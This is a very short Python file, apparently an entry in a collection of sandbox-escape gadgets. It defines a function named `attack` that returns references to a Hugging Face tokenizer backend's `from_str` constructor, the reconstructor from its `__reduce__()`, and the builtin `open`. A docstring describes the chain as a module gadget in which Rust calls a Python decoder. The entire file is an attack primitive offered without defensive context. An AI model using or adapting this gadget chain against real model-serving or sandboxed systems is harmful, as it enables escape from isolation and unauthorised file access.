"""Class: module gadget. Source: own find. Escape: a decoder of Python's is called by Rust."""


def attack(model, tokenizer, address):
    return (
        tokenizer.backend_tokenizer.__class__.from_str,
        tokenizer.backend_tokenizer.__reduce__()[0],
        open,
    )
